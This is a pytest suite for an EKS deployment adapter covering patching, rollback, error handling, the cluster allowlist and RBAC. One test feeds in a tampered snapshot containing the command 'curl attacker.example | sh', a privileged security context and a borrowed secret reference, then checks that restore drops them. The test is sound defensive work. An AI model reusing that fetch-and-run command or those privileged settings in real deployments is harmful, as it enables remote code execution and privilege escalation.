"""EksServing: the requests it sends, how it maps API errors, and (when the local Kubernetes API is
available) a real rollout, failure and rollback over HTTPS."""

from __future__ import annotations

import base64
import copy
import datetime
import json
import pathlib
import time
from typing import Any

import boto3
import httpx2
import pytest
import yaml
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from seam.adapters.serving.eks import EksServing
from seam.adapters.serving.eks_auth import ClusterEndpoint, EksTokenProvider
from seam.errors import ServingConflictError, ServingError, TransientError
from seam.models.serving import DeploymentSnapshot, Release
from seam.models.serving_target import ServingTarget

TARGET = ServingTarget(
    cluster="prod", namespace="ml-serving", deployment="churn-predictor", container="model"
)
PATH = "/apis/apps/v1/namespaces/ml-serving/deployments/churn-predictor"
IMAGE = "123456789012.dkr.ecr.eu-west-1.amazonaws.com/churn@sha256:" + "a" * 64
RELEASE = Release(
    image=IMAGE,
    model_uri="s3://seam-artifacts/churn/run-7/model.tar.gz",
    model_version="7",
    run_id="churn-20260101T0000-abc",
    registry_arn="arn:aws:sagemaker:eu-west-1:123456789012:model-package/churn/7",
)


def make_ca_data() -> str:
    """A real (throwaway) CA certificate, base64 PEM as DescribeCluster returns it."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "kubernetes")])
    now = datetime.datetime.now(datetime.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(minutes=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    return base64.b64encode(cert.public_bytes(serialization.Encoding.PEM)).decode()


ENDPOINT = ClusterEndpoint(
    name="prod", endpoint="https://prod.example.eks.amazonaws.com", ca_data=make_ca_data()
)


def a_deployment() -> dict[str, Any]:
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": "churn-predictor", "namespace": "ml-serving", "generation": 3},
        "spec": {
            "replicas": 2,
            "template": {
                "metadata": {"labels": {"app": "churn"}, "annotations": {"team": "risk"}},
                "spec": {
                    "containers": [
                        {"name": "proxy", "image": "envoy:1"},
                        {
                            "name": "model",
                            "image": "churn@sha256:" + "0" * 64,
                            "env": [{"name": "LOG_LEVEL", "value": "info"}],
                            "resources": {"limits": {"cpu": "1"}},
                            "someFieldFromTheFuture": {"kept": True},
                        },
                    ]
                },
            },
        },
        "status": {"observedGeneration": 3, "replicas": 2, "updatedReplicas": 2, "availableReplicas": 2},
    }


def api_status(code: int, reason: str, message: str) -> httpx2.Response:
    body = {
        "kind": "Status",
        "apiVersion": "v1",
        "status": "Failure",
        "reason": reason,
        "message": message,
        "code": code,
    }
    return httpx2.Response(code, json=body)


class FakeApi:
    """Just enough of an API server: GET returns the stored Deployment, PATCH records the body and bumps
    metadata.generation (it does not apply the patch). Queued responses (or callables) answer first."""

    def __init__(self) -> None:
        self.deployment = a_deployment()
        self.requests: list[httpx2.Request] = []
        self.queued: list[Any] = []

    def __call__(self, request: httpx2.Request) -> httpx2.Response:
        self.requests.append(request)
        if self.queued:
            item = self.queued.pop(0)
            if isinstance(item, Exception):
                raise item
            return item(self, request) if callable(item) else item
        assert request.url.path == PATH
        if request.method == "PATCH":
            self.deployment["metadata"]["generation"] += 1
        return httpx2.Response(200, json=self.deployment)

    def patches(self) -> list[httpx2.Request]:
        return [r for r in self.requests if r.method == "PATCH"]


def ok(fake: FakeApi, request: httpx2.Request) -> httpx2.Response:
    return httpx2.Response(200, json=fake.deployment)


@pytest.fixture
def api() -> FakeApi:
    return FakeApi()


@pytest.fixture
def sleeps() -> list[float]:
    return []


@pytest.fixture
def serving(api, sleeps) -> EksServing:
    return EksServing(
        frozenset({"prod"}),
        resolve_cluster=lambda name: ENDPOINT,
        token_provider=lambda name: "k8s-aws-v1.token",
        sleep=sleeps.append,
        transport=httpx2.MockTransport(api),
    )


# -- requests --------------------------------------------------------------------------------------


def test_snapshot_returns_the_container_verbatim_with_annotations_and_generation(serving, api):
    snapshot = serving.snapshot(TARGET)

    assert snapshot == DeploymentSnapshot(
        container=a_deployment()["spec"]["template"]["spec"]["containers"][1],
        annotations={"team": "risk"},
        generation=3,
    )
    (request,) = api.requests
    assert (request.method, request.url.path) == ("GET", PATH)
    assert request.url.host == "prod.example.eks.amazonaws.com"
    assert request.headers["Authorization"] == "Bearer k8s-aws-v1.token"


def test_snapshot_of_a_missing_container_names_it(serving, api):
    api.deployment["spec"]["template"]["spec"]["containers"].pop(1)
    with pytest.raises(
        ServingError, match=r"container model not found in deployment ml-serving/churn-predictor"
    ):
        serving.snapshot(TARGET)


def test_apply_sends_one_strategic_merge_patch(serving, api):
    generation = serving.apply(TARGET, RELEASE)

    assert generation == 4
    (patch,) = api.patches()
    assert patch.url.path == PATH
    assert patch.headers["Content-Type"] == "application/strategic-merge-patch+json"
    assert patch.url.params["fieldManager"] == "seam"
    assert json.loads(patch.content) == {
        "spec": {
            "template": {
                "metadata": {
                    "annotations": {
                        "seam.dev/run-id": "churn-20260101T0000-abc",
                        "seam.dev/model-version": "7",
                        "seam.dev/model-package-arn": RELEASE.registry_arn,
                    }
                },
                "spec": {
                    "containers": [
                        {
                            "name": "model",
                            "image": IMAGE,
                            "env": [
                                {
                                    "name": "SEAM_MODEL_URI",
                                    "value": "s3://seam-artifacts/churn/run-7/model.tar.gz",
                                },
                                {"name": "SEAM_MODEL_VERSION", "value": "7"},
                            ],
                        }
                    ]
                },
            }
        }
    }


def test_apply_to_a_missing_container_patches_nothing(serving, api):
    # A strategic merge would add a second container named "model" to the pod.
    api.deployment["spec"]["template"]["spec"]["containers"].pop(1)
    with pytest.raises(ServingError, match="container model not found"):
        serving.apply(TARGET, RELEASE)
    assert api.patches() == []


def test_rollout_status_reads_and_decides(serving, api):
    status = serving.rollout_status(TARGET, 3)
    assert (status.state, status.replicas, status.available_replicas) == ("done", 2, 2)
    assert serving.rollout_status(TARGET, 4).state == "progressing"  # generation 4 not observed yet


def test_restore_puts_back_image_seam_env_and_seam_annotations_with_a_json_patch(serving, api):
    snapshot = serving.snapshot(TARGET)
    model = api.deployment["spec"]["template"]["spec"]["containers"][1]
    model["image"] = IMAGE
    model["env"] = [{"name": "LOG_LEVEL", "value": "debug"}, {"name": "SEAM_MODEL_VERSION", "value": "7"}]
    api.deployment["spec"]["template"]["metadata"]["annotations"]["seam.dev/run-id"] = "r"

    assert serving.restore(TARGET, snapshot) == 4

    (patch,) = api.patches()
    assert patch.headers["Content-Type"] == "application/json-patch+json"
    assert json.loads(patch.content) == [
        {"op": "test", "path": "/spec/template/spec/containers/1/name", "value": "model"},
        {
            "op": "replace",
            "path": "/spec/template/spec/containers/1/image",
            "value": "churn@sha256:" + "0" * 64,
        },
        # SEAM_* back as they were (none), everything else of the env as it is live.
        {
            "op": "add",
            "path": "/spec/template/spec/containers/1/env",
            "value": [{"name": "LOG_LEVEL", "value": "debug"}],
        },
        {"op": "add", "path": "/spec/template/metadata/annotations", "value": {"team": "risk"}},
    ]


def test_restore_of_a_tampered_snapshot_writes_only_what_seam_manages(serving, api):
    """A container spec read back from the runs table may have been edited: only image, SEAM_* env
    (plain values) and seam.dev/* annotations of it are ever written."""
    tampered = DeploymentSnapshot(
        container={
            "name": "model",
            "image": "churn@sha256:" + "1" * 64,
            "command": ["sh", "-c", "curl attacker.example | sh"],
            "securityContext": {"privileged": True},
            "env": [
                {"name": "SEAM_MODEL_VERSION", "value": "6"},
                {"name": "AWS_ACCESS_KEY_ID", "value": "AKIA..."},
                {"name": "SEAM_TOKEN", "valueFrom": {"secretKeyRef": {"name": "other-team", "key": "k"}}},
            ],
        },
        annotations={"seam.dev/run-id": "seam-unit-churn-000000000006", "sidecar.istio.io/inject": "false"},
    )

    serving.restore(TARGET, tampered)

    ops = json.loads(api.patches()[0].content)
    assert [op["path"].rsplit("/", 1)[-1] for op in ops] == ["name", "image", "env", "annotations"]
    assert ops[2]["value"] == [
        {"name": "LOG_LEVEL", "value": "info"},
        {"name": "SEAM_MODEL_VERSION", "value": "6"},
    ]
    assert ops[3]["value"] == {"team": "risk", "seam.dev/run-id": "seam-unit-churn-000000000006"}
    assert (
        "attacker" not in api.patches()[0].content.decode()
        and "privileged" not in api.patches()[0].content.decode()
    )


def test_restore_when_already_restored_writes_nothing(serving, api):
    snapshot = serving.snapshot(TARGET)
    assert serving.restore(TARGET, snapshot) == 3
    assert serving.restore(TARGET, snapshot) == 3
    assert api.patches() == []


def test_restore_with_no_annotations_left_matches_an_empty_snapshot(serving, api):
    del api.deployment["spec"]["template"]["metadata"]["annotations"]
    snapshot = serving.snapshot(TARGET)
    assert snapshot.annotations == {}
    assert serving.restore(TARGET, snapshot) == 3
    assert api.patches() == []


def test_restore_of_another_containers_snapshot_is_refused(serving, api):
    snapshot = DeploymentSnapshot(container={"name": "proxy", "image": "envoy:1"})
    with pytest.raises(ServingError, match="snapshot is of container 'proxy'"):
        serving.restore(TARGET, snapshot)
    assert api.requests == []


def test_restore_retries_when_the_container_moved_between_read_and_patch(serving, api, sleeps):
    snapshot = serving.snapshot(TARGET)
    api.deployment["spec"]["template"]["spec"]["containers"][1]["image"] = IMAGE

    def test_failed_after_a_reorder(fake: FakeApi, request: httpx2.Request) -> httpx2.Response:
        containers = fake.deployment["spec"]["template"]["spec"]["containers"]
        containers.reverse()
        return api_status(422, "Invalid", "testing value /spec/template/spec/containers/1/name failed")

    api.queued = [ok, test_failed_after_a_reorder]  # the GET answers normally, the first PATCH fails

    assert serving.restore(TARGET, snapshot) == 4
    first, second = api.patches()
    assert json.loads(first.content)[0]["path"] == "/spec/template/spec/containers/1/name"
    assert json.loads(second.content)[0]["path"] == "/spec/template/spec/containers/0/name"
    assert sleeps == [0.2]


def test_restore_422_without_a_race_is_a_serving_error(serving, api):
    snapshot = serving.snapshot(TARGET)
    api.deployment["spec"]["template"]["spec"]["containers"][1]["image"] = IMAGE
    api.queued = [ok, api_status(422, "Invalid", "spec.template.spec.containers[1].image: Required value")]
    with pytest.raises(ServingError, match=r"HTTP 422 spec\.template\.spec\.containers") as raised:
        serving.restore(TARGET, snapshot)
    assert not isinstance(raised.value, TransientError)


# -- errors ----------------------------------------------------------------------------------------


def test_conflict_is_retried_with_backoff_then_succeeds(serving, api, sleeps):
    conflict = api_status(
        409, "Conflict", 'Operation cannot be fulfilled on deployments.apps "churn-predictor"'
    )
    api.queued = [ok, conflict, ok, copy.copy(conflict)]  # GET, PATCH 409, GET, PATCH 409, then normal

    assert serving.apply(TARGET, RELEASE) == 4
    assert [r.method for r in api.requests] == ["GET", "PATCH"] * 3
    assert sleeps == [0.2, 0.4]


def test_conflict_that_persists_is_a_serving_conflict_error(serving, api, sleeps):
    conflict = api_status(409, "Conflict", "the object has been modified")
    api.queued = [ok, conflict] * 4

    with pytest.raises(ServingConflictError, match=r"HTTP 409 the object has been modified") as raised:
        serving.apply(TARGET, RELEASE)
    assert isinstance(raised.value, TransientError)  # the state machine retries it
    assert len(api.patches()) == 4
    assert sleeps == [0.2, 0.4, 0.8]


@pytest.mark.parametrize(
    ("code", "reason", "hint"),
    [
        (401, "Unauthorized", "is the deploy role mapped"),
        (403, "Forbidden", "RBAC"),
        (404, "NotFound", "no such Deployment"),
    ],
)
@pytest.mark.parametrize("fails_on", ["GET", "PATCH"])
def test_auth_and_missing_errors_name_the_target_and_status(
    serving, api, sleeps, code, reason, hint, fails_on
):
    failure = api_status(code, reason, f"{reason.lower()} by the API")
    api.queued = [failure] if fails_on == "GET" else [ok, failure]

    with pytest.raises(ServingError) as raised:
        serving.apply(TARGET, RELEASE)

    message = str(raised.value)
    for part in ("prod", "ml-serving/churn-predictor", f"HTTP {code}", hint):
        assert part in message
    assert not isinstance(raised.value, TransientError)
    assert sleeps == []


@pytest.mark.parametrize(
    "response",
    [
        api_status(500, "InternalError", "etcd leader changed"),
        api_status(429, "TooManyRequests", "slow down"),
        httpx2.Response(503, text="upstream connect error", headers={"Content-Type": "text/plain"}),
        httpx2.Response(502, content=b"bad gateway"),  # no Content-Type: lightkube raises KeyError
    ],
    ids=["500", "429", "503-not-json", "502-no-content-type"],
)
def test_server_errors_are_transient(serving, api, response):
    api.queued = [response]
    with pytest.raises(
        TransientError,
        match=rf"read deployment ml-serving/churn-predictor in cluster prod: "
        rf"HTTP {response.status_code}",
    ) as raised:
        serving.snapshot(TARGET)
    assert not isinstance(raised.value, ServingConflictError)


def test_connection_errors_are_transient(serving, api):
    api.queued = [httpx2.ConnectError("connection refused")]
    with pytest.raises(TransientError, match="ConnectError: connection refused"):
        serving.rollout_status(TARGET, 3)


# -- guards, tokens, clients -----------------------------------------------------------------------


def must_not_be_called(*args: Any) -> Any:
    raise AssertionError("called before the cluster was checked")


@pytest.mark.parametrize(
    "call",
    [
        lambda s, t: s.snapshot(t),
        lambda s, t: s.apply(t, RELEASE),
        lambda s, t: s.rollout_status(t, 1),
        lambda s, t: s.restore(t, DeploymentSnapshot(container={"name": "model", "image": "x"})),
    ],
    ids=["snapshot", "apply", "rollout_status", "restore"],
)
def test_a_cluster_that_is_not_allowed_is_refused_before_any_call(call):
    serving = EksServing(
        frozenset({"prod"}),
        resolve_cluster=must_not_be_called,
        token_provider=must_not_be_called,
        transport=httpx2.MockTransport(must_not_be_called),
    )
    with pytest.raises(ServingError, match="cluster staging is not in the allowed serving clusters"):
        call(serving, TARGET.model_copy(update={"cluster": "staging"}))


def test_a_new_token_gets_a_new_client(api):
    tokens = iter(["k8s-aws-v1.first", "k8s-aws-v1.first", "k8s-aws-v1.second"])
    resolved: list[str] = []
    serving = EksServing(
        frozenset({"prod"}),
        resolve_cluster=lambda name: resolved.append(name) or ENDPOINT,
        token_provider=lambda name: next(tokens),
        transport=httpx2.MockTransport(api),
    )
    for _ in range(3):
        serving.rollout_status(TARGET, 3)
    assert [r.headers["Authorization"] for r in api.requests] == [
        "Bearer k8s-aws-v1.first",
        "Bearer k8s-aws-v1.first",
        "Bearer k8s-aws-v1.second",
    ]
    assert resolved == ["prod", "prod"]  # the resolver caches DescribeCluster itself


def test_a_ca_that_is_not_pem_is_a_serving_error(api):
    garbage = ClusterEndpoint("prod", "https://x", base64.b64encode(b"not a certificate").decode())
    serving = EksServing(
        frozenset({"prod"}),
        resolve_cluster=lambda name: garbage,
        token_provider=lambda name: "t",
        transport=httpx2.MockTransport(api),
    )
    with pytest.raises(ServingError, match="not a PEM certificate"):
        serving.snapshot(TARGET)
    assert api.requests == []


# -- access ----------------------------------------------------------------------------------------


def test_rbac_manifest_grants_the_group_get_and_patch_on_one_deployment():
    path = pathlib.Path(__file__).parents[2] / "manifests" / "seam-deployer-rbac.yaml"
    role, binding = yaml.safe_load_all(path.read_text())

    assert (role["kind"], role["metadata"]["namespace"]) == ("Role", "ml-serving")
    assert role["rules"] == [
        {
            "apiGroups": ["apps"],
            "resources": ["deployments"],
            "resourceNames": ["churn-predictor"],
            "verbs": ["get", "patch"],
        }
    ]
    assert (binding["kind"], binding["metadata"]["namespace"]) == ("RoleBinding", "ml-serving")
    assert binding["subjects"] == [
        {"kind": "Group", "apiGroup": "rbac.authorization.k8s.io", "name": "seam-deployer"}
    ]
    assert binding["roleRef"] == {
        "kind": "Role",
        "apiGroup": "rbac.authorization.k8s.io",
        "name": role["metadata"]["name"],
    }


# -- integration: the local Kubernetes API over HTTPS ---------------------------------------------

LOCAL = ServingTarget(
    cluster="seam-local", namespace="ml-serving", deployment="churn-predictor", container="model"
)
OLD_IMAGE = "churn@sha256:" + "0" * 64


def churn_deployment() -> dict[str, Any]:
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": "churn-predictor", "namespace": "ml-serving"},
        "spec": {
            "replicas": 2,
            "selector": {"matchLabels": {"app": "churn"}},
            "template": {
                "metadata": {"labels": {"app": "churn"}, "annotations": {"team": "risk"}},
                "spec": {
                    "containers": [
                        {"name": "proxy", "image": "envoy:1"},
                        {
                            "name": "model",
                            "image": OLD_IMAGE,
                            "env": [{"name": "LOG_LEVEL", "value": "info"}],
                        },
                    ]
                },
            },
        },
    }


@pytest.fixture
def kube():
    from seam_local.kubeapi import KubeApiServer

    with KubeApiServer(step_seconds=0.02, fail_after_steps=3) as server:
        server.apply_deployment(churn_deployment())
        assert server.wait_for_rollout("ml-serving", "churn-predictor") == "complete"
        yield server


@pytest.fixture
def iam_tokens(monkeypatch):
    """The real token provider: a SigV4-presigned STS URL (fake credentials; presigning is offline)."""
    for name, value in {"AWS_ACCESS_KEY_ID": "AKIDEXAMPLE", "AWS_SECRET_ACCESS_KEY": "secret"}.items():
        monkeypatch.setenv(name, value)
    return EksTokenProvider(boto3.client("sts", region_name="us-east-1"))


def local_serving(kube, tokens, ca_data: str | None = None) -> EksServing:
    return EksServing(
        frozenset({"seam-local"}),
        resolve_cluster=lambda name: ClusterEndpoint(name, kube.url, ca_data or kube.ca_data),
        token_provider=tokens,
    )


def wait_for(serving: EksServing, generation: int, timeout: float = 15.0):
    deadline = time.monotonic() + timeout
    while True:
        status = serving.rollout_status(LOCAL, generation)
        if status.state != "progressing" or time.monotonic() > deadline:
            return status
        time.sleep(0.02)


def test_local_apply_rolls_out_and_merges(kube, iam_tokens):
    serving = local_serving(kube, iam_tokens)
    before = serving.snapshot(LOCAL)

    generation = serving.apply(LOCAL, RELEASE)
    assert generation == before.generation + 1

    status = wait_for(serving, generation)
    assert (status.state, status.replicas, status.updated_replicas, status.available_replicas) == (
        "done",
        2,
        2,
        2,
    )

    template = kube.get_deployment("ml-serving", "churn-predictor")["spec"]["template"]
    proxy, model = template["spec"]["containers"]
    assert proxy["image"] == "envoy:1"
    assert model["image"] == IMAGE
    assert model["env"] == [
        {"name": "LOG_LEVEL", "value": "info"},
        {"name": "SEAM_MODEL_URI", "value": RELEASE.model_uri},
        {"name": "SEAM_MODEL_VERSION", "value": "7"},
    ]
    assert template["metadata"]["annotations"] == {"team": "risk", **RELEASE.annotations()}

    assert serving.apply(LOCAL, RELEASE) == generation  # same release again: no new generation


def test_local_crashloop_fails_then_restore_brings_the_snapshot_back(kube, iam_tokens):
    serving = local_serving(kube, iam_tokens)
    snapshot = serving.snapshot(LOCAL)
    broken = RELEASE.model_copy(update={"image": "churn-crashloop@sha256:" + "b" * 64})

    failed = wait_for(serving, serving.apply(LOCAL, broken))
    assert failed.state == "failed"
    assert failed.reason.startswith("ProgressDeadlineExceeded")

    restored_generation = serving.restore(LOCAL, snapshot)
    assert restored_generation > snapshot.generation
    assert wait_for(serving, restored_generation).state == "done"

    after = serving.snapshot(LOCAL)
    assert after.container == snapshot.container
    assert after.annotations == snapshot.annotations == {"team": "risk"}
    live = kube.get_deployment("ml-serving", "churn-predictor")
    assert [c["name"] for c in live["spec"]["template"]["spec"]["containers"]] == ["proxy", "model"]

    version = live["metadata"]["resourceVersion"]
    assert serving.restore(LOCAL, snapshot) == restored_generation  # a retried rollback writes nothing
    assert kube.get_deployment("ml-serving", "churn-predictor")["metadata"]["resourceVersion"] == version


def test_local_wrong_ca_fails_tls_verification(kube, iam_tokens):
    serving = local_serving(kube, iam_tokens, ca_data=make_ca_data())
    with pytest.raises(ServingError, match="TLS verification against the cluster CA failed") as raised:
        serving.snapshot(LOCAL)
    assert not isinstance(raised.value, TransientError)


def test_local_rejected_token_is_a_serving_error(kube):
    serving = local_serving(kube, lambda name: "not-an-eks-token")
    with pytest.raises(
        ServingError, match=r"deployment ml-serving/churn-predictor in cluster seam-local: HTTP 401"
    ):
        serving.snapshot(LOCAL)


def test_local_missing_deployment_is_a_serving_error(kube, iam_tokens):
    serving = local_serving(kube, iam_tokens)
    with pytest.raises(ServingError, match=r"ml-serving/fraud in cluster seam-local: HTTP 404"):
        serving.snapshot(LOCAL.model_copy(update={"deployment": "fraud"}))


def test_may_patch_asks_the_cluster_with_a_local_subject_access_review(kube, iam_tokens):
    import yaml

    from tests.local.test_kubectl import RBAC_MANIFEST

    serving = local_serving(kube, iam_tokens)
    assert serving.may_patch(LOCAL, "seam-deployer") == (False, "")  # no RBAC grants it yet
    kube.load_rbac(yaml.safe_load_all(RBAC_MANIFEST.read_text()))  # the manifest, applied

    assert serving.may_patch(LOCAL, "seam-deployer") == (
        True,
        'RBAC: allowed by RoleBinding "seam-deployer" in namespace "ml-serving"',
    )
    assert serving.may_patch(LOCAL, "another-group") == (False, "")
    other = LOCAL.model_copy(update={"deployment": "fraud-predictor"})
    assert serving.may_patch(other, "seam-deployer") == (False, "")  # resourceNames: only its Deployment
